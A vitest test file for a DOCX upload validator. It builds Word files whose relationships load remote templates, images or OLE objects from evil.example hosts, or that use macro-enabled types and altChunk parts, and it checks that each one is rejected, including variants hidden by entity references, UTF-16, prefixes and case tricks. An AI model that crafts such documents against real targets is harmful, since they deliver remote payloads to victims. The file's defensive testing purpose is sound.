import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createWordFile } from '#testing/files/upload-files.ts'
import { isDocx } from './docx.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'cangdan-docx-'))
})
afterAll(() => rm(folder, { recursive: true }))

let count = 0
async function isAccepted(parts: Parameters<typeof createWordFile>[0]): Promise<boolean> {
  const path = join(folder, `${(count += 1)}.docx`)
  await writeFile(path, await createWordFile(parts))
  return isDocx(path)
}

const TRANSITIONAL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships'
const OUTSIDE = 'TargetMode="External"'
const TEMPLATE = ['attachedTemplate', 'http://evil.example/t.dotm', OUTSIDE] as const

const buildRelationship = (kind: string, target: string, mode = '', scheme = TRANSITIONAL) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${scheme}/${kind}" Target="${target}" ${mode}/></Relationships>`

const buildContentTypes = (type: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`

const SETTINGS = 'word/_rels/settings.xml.rels'

describe('isDocx', () => {
  it.each([
    ['a template', buildRelationship(...TEMPLATE)],
    ['a template, in the strict edition', buildRelationship(...TEMPLATE, STRICT)],
    [
      'a template, spelled with references',
      buildRelationship('attached&#84;emplate', 'x', 'TargetMode="&#69;xternal"'),
    ],
    ['a template, in two bytes a letter', Buffer.from(`\ufeff${buildRelationship(...TEMPLATE)}`, 'utf16le')],
    [
      'a template, with a prefix',
      buildRelationship(...TEMPLATE)
        .replaceAll(/<(\/?)Rel/g, '<$1p:Rel')
        .replace('xmlns=', 'xmlns:p='),
    ],
    [
      'a template, behind a document type',
      `<!DOCTYPE r [<!ENTITY e "External">]>${buildRelationship('image', 'x', 'TargetMode="&e;"')}`,
    ],
    ['a picture', buildRelationship('image', 'http://evil.example/p.png', OUTSIDE)],
    ['an object', buildRelationship('oleObject', 'file://evil/o.xls', OUTSIDE)],
  ])('rejects a document that loads %s from a URL', async (_what, text) => {
    expect(await isAccepted({ [SETTINGS]: text })).toBe(false)
  })

  it.each([TRANSITIONAL, STRICT])('rejects a chunk of another format (%s)', async (scheme) => {
    const text = buildRelationship('aFChunk', 'chunk.mht', '', scheme)
    expect(await isAccepted({ 'word/_rels/document.xml.rels': text })).toBe(false)
  })

  it.each([
    'application/vnd.ms-word.document.macroEnabled.main+xml',
    'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
    'application/vnd.ms-word.document.macro&#69;nabled.main+xml',
  ])('rejects a main part of the type %s', async (type) => {
    expect(await isAccepted({ '[Content_Types].xml': buildContentTypes(type) })).toBe(false)
  })

  it('rejects a second part with the same name in other case', async () => {
    const harmless = buildRelationship('theme', 'theme.xml')
    expect(await isAccepted({ [SETTINGS]: buildRelationship(...TEMPLATE), [SETTINGS.toUpperCase()]: harmless })).toBe(
      false,
    )
  })

  it('accepts a document with hyperlinks and a local template', async () => {
    expect(
      await isAccepted({
        'word/_rels/document.xml.rels': buildRelationship('hyperlink', 'https://cangdan.example/', OUTSIDE),
        [SETTINGS]: buildRelationship('attachedTemplate', 'Normal.dotx'),
      }),
    ).toBe(true)
  })
})
